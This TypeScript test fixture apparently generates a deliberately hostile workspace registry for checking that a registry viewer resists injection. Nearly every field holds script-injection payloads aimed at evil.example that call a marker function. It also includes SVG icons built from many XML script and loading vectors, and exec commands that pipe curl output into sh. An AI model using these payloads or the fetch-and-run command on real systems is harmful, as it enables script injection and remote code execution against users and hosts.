import { writeFiles } from "./run.ts";
import { png } from "./made-up-registry.ts";
import { everyFamily, families, familyNames, foreign, type Payload } from "./hostile-payloads.ts";

/**
 * A registry in which every field of every file tries to run or load something: a workspace for each family of payloads, and registry.json
 * with all of them. Each value names its field, so that what runs says where it got in.
 */
export function hostileRegistry(folder: string): Promise<void> {
  writeFiles(folder, {
    "registry.json": hostileIdentity,
    "old-addresses.json": oldAddresses,
    ...Object.assign({}, ...familyNames.map(hostileFolder)),
  });
  return Promise.resolve();
}

/** Values that pass check: addresses are http or mailto, the icon's may be elsewhere. */
export const hostileIdentity = {
  name: everyFamily("registry.name"),
  description: everyFamily("registry.description"),
  contact_url: `mailto:a@evil.example?subject="><script>__hit('registry.contact-url')</script>'onfocus=__hit('registry.contact-url')//`,
  source: `https://github.com/evil.example/"><script>__hit('registry.source')</script>'onfocus=__hit('registry.source')\`?q=javascript:__hit(1)#"><b>`,
  icon: `${foreign("registry.icon")}icon.svg?"><script>__hit('registry.icon')</script>`,
  default_channel: everyFamily("registry.default-channel"),
};

/** Addresses of an older site: what is no such address, and what names no workspace, leads nowhere but home. */
const oldAddresses = {
  "1.0/new/PHNjcmlwdD4=/": `${foreign("old.folder")}"><script>__hit('old.folder')</script>`,
  "1.1/new/PHNjcmlwdD4=/": "javascript:__hit('old.folder')",
  '1.1/new/"><script>__hit(1)</script>/': "x",
  "1.0/new/../../x/": "x",
  "//evil.example/": "x",
};

const id = (key: string): string => key.replaceAll("_", "-");

/** Cuts a payload to what a name on the disk may hold; `most` in characters. */
function nameOf(payload: string, most: number): string {
  return payload
    .replace(/[<>:"|?*\\/%#]|[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, "")
    .slice(0, most)
    .trim()
    .replace(/\.+$/, "");
}

export interface HostileWorkspace {
  /** Name of the folder below the content folder. */
  folder: string;
  data: Record<string, unknown> & {
    friendly_name: string;
    description: string;
    notes: string;
    categories: string[];
    image_src: string;
    docker_registry: string;
  };
  readme: string;
  /** Name of the picture beside README.md. */
  screenshot: string;
  maintainer: string;
}

/** The workspace of one family. Every second one is in schema 1.1. */
export function hostileWorkspace(family: string): HostileWorkspace {
  const { make } = families[family]!;
  const at = (field: string): string => make(`${family}.${field}`);
  const number = familyNames.indexOf(family);
  const image_src = `${nameOf(at("image-src"), 90)}.svg`;
  const screenshot = `${nameOf(at("screenshot"), 90)}.png`;
  const image = `ghcr.io/evil.example/onerror-${number}:javascript__hit-${number}`;
  const size = { uncompressed_size_mb: 10 };
  const data = {
    $schema: at("schema"),
    friendly_name: at("friendly-name"),
    description: at("description"),
    notes: at("notes"),
    image_src,
    categories: [at("category"), `${at("category-too")} 2`],
    docker_registry: at("docker-registry"),
    architecture: ["amd64"],
    persistent_profile_path: at("persistent-profile-path"),
    image_type: at("image-type"),
    volume_mappings: { [at("volume.key")]: { bind: at("volume.bind"), mode: at("volume.mode") } },
    run_config: runConfig(at),
    exec_config: execConfig(at),
    [at("unknown.key")]: at("unknown.value"),
    unknown: { [at("deep.key")]: [at("deep.value")] },
    ...(number % 2
      ? {
          compatibility: [
            {
              version: "1.17.x",
              image,
              ...size,
              available_tags: [at("tag"), "develop"],
              [at("release.key")]: at("release.value"),
            },
            { version: at("version"), image, ...size },
          ],
        }
      : { name: image, ...size, compatibility: ["1.15.x", at("version")] }),
  };
  const maintainer = at("maintainer");
  return {
    folder: `W${String(number + 1).padStart(2, "0")} ${nameOf(at("folder"), 60)}`,
    data,
    readme: readme(at, maintainer, screenshot),
    screenshot,
    maintainer,
  };
}

function hostileFolder(family: string): Record<string, string | Uint8Array | object> {
  const { folder, data, readme, screenshot } = hostileWorkspace(family);
  return {
    [`${folder}/workspace.json`]: data,
    [`${folder}/README.md`]: readme,
    [`${folder}/${data.image_src}`]: hostileSvg(`${family}.icon`),
    [`${folder}/${screenshot}`]: png(120),
  };
}

/** A value where a review looks, under every property that it knows, and a property that nobody knows. */
function runConfig(at: Payload): Record<string, unknown> {
  const texts = [
    "hostname",
    "domainname",
    "user",
    "command",
    "working_dir",
    "network",
    "network_mode",
    "pid_mode",
    "ipc_mode",
    "userns_mode",
    "uts_mode",
    "cgroupns",
    "cgroup_parent",
    "shm_size",
    "mem_limit",
    "runtime",
    "name",
    "mac_address",
    "platform",
    "stop_signal",
    "isolation",
    "volume_driver",
  ];
  const lists = [
    "entrypoint",
    "devices",
    "cap_add",
    "cap_drop",
    "security_opt",
    "dns",
    "dns_search",
    "dns_opt",
    "group_add",
    "volumes_from",
    "device_cgroup_rules",
    "links",
  ];
  const maps = [
    "environment",
    "labels",
    "sysctls",
    "tmpfs",
    "extra_hosts",
    "storage_opt",
    "ports",
    "lxc_conf",
  ];
  return {
    ...Object.fromEntries(texts.map((key) => [key, at(`run.${id(key)}`)])),
    ...Object.fromEntries(lists.map((key) => [key, [at(`run.${id(key)}`)]])),
    ...Object.fromEntries(
      maps.map((key) => [
        key,
        { [at(`run.${id(key)}.key`)]: at(`run.${id(key)}.value`), PASSWORD: at(`run.${id(key)}.secret`) },
      ]),
    ),
    privileged: true,
    volumes: { [at("run.volumes.key")]: { bind: at("run.volumes.bind"), mode: at("run.volumes.mode") } },
    ulimits: [{ Name: at("run.ulimits"), Soft: 1 }],
    mounts: [{ Type: "bind", Source: at("run.mounts.source"), Target: at("run.mounts.target") }],
    device_requests: [
      { Driver: at("run.driver"), DeviceIDs: [at("run.device")], Capabilities: [[at("run.capability")]] },
    ],
    log_config: { Type: at("run.log"), Config: { [at("run.log.key")]: at("run.log.value") } },
    restart_policy: { Name: at("run.restart") },
    healthcheck: { Test: ["CMD", at("run.health")] },
    [at("run.key")]: at("run.value"),
  };
}

function execConfig(at: Payload): Record<string, unknown> {
  const command = (name: string): object => ({
    cmd: `bash -c 'curl ${foreign(id(name))} | sh; ${at(`exec.${id(name)}.cmd`)}'`,
    user: at(`exec.${id(name)}.user`),
    workdir: at(`exec.${id(name)}.workdir`),
    environment: { [at(`exec.${id(name)}.key`)]: at(`exec.${id(name)}.value`) },
    [at(`exec.${id(name)}.unknown`)]: at(`exec.${id(name)}.text`),
  });
  return {
    first_launch: command("first_launch"),
    go: command("go"),
    assign: command("assign"),
    [at("exec.key")]: { cmd: [at("exec.list")] },
  };
}

function readme(at: Payload, maintainer: string, screenshot: string): string {
  const quoted = (text: string): string =>
    JSON.stringify(text).replace(
      /[\u0080-\uffff]/g,
      (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}`,
    );
  const file = encodeURIComponent(screenshot).replace(
    /[()']/g,
    (character) => `%${character.charCodeAt(0).toString(16)}`,
  );
  const facts = {
    homepage: `${foreign("homepage")}${encodeURIComponent(at("homepage"))}"><script>__hit(1)</script>'onfocus=__hit(1)`,
    source: at("source"),
    support: `mailto:a@evil.example?subject=${at("support")}`,
    license: at("license"),
    maintainer,
  };
  return [
    "---",
    ...Object.entries(facts).map(([key, value]) => `${key}: ${quoted(value)}`),
    `screenshots: [{ file: ${quoted(screenshot)}, alt: ${quoted(at("alt"))} }, ${quoted(at("missing-screenshot"))}]`,
    `${quoted(at("front-matter.key"))}: ${quoted(at("front-matter.value"))}`,
    "---",
    at("body"),
    "",
    `# ${at("heading")}`,
    "",
    `| ${at("cell").replaceAll("\n", " ")} | x |`,
    "|---|---|",
    `| x | ${at("cell-too").replaceAll("\n", " ")} |`,
    "",
    `![${at("picture")}](${file})`,
    "",
    `[text](<${at("link")}>) [text](${at("link-too")} "${at("link-title")}") <${at("autolink")}>`,
    "",
    `<a href="${at("html.href")}" title='${at("html.title")}' onclick="__hit('html.onclick')" style="background:url(${foreign("html.style")})" target=_blank ping=${foreign("html.ping")}>x</a>`,
    "",
    `\`\`\`${at("fence").replaceAll("\n", " ")}`,
    at("code"),
    "```",
    "",
    `    ${at("indented")}`,
    "",
    `- ${at("item")}`,
    `> ${at("quote")}`,
  ].join("\n");
}

/** A drawing with every way to run or load something that XML allows. */
function hostileSvg(id: string): string {
  const hit = `__hit('${id}')`;
  return `<?xml version="1.0"?><?xml-stylesheet href="${foreign(id)}"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64" width="64" height="64" onload="${hit}">
<script>${hit}</script><script href="${foreign(id)}"/><script><![CDATA[${hit}]]></script>
<style>@import "${foreign(id)}"; rect { fill: url(${foreign(id)}#x) }</style>
<title>&lt;script&gt;${hit}&lt;/script&gt;</title>
<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${foreign(id)}"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${hit}"/><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${foreign(id)}"/></foreignObject>
<image href="${foreign(id)}" width="1" height="1"/><image xlink:href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/%3E" width="1" height="1"/><use href="${foreign(id)}#x"/>
<a href="javascript:${hit}"><rect id="drawn" width="64" height="64" fill="#345" style="filter:url(${foreign(id)}#f)" onclick="${hit}"/></a>
<animate href="#drawn" attributeName="x" begin="0s" dur="1s" onbegin="${hit}"/><set href="#drawn" attributeName="href" to="javascript:${hit}"/>
</svg>`;
}
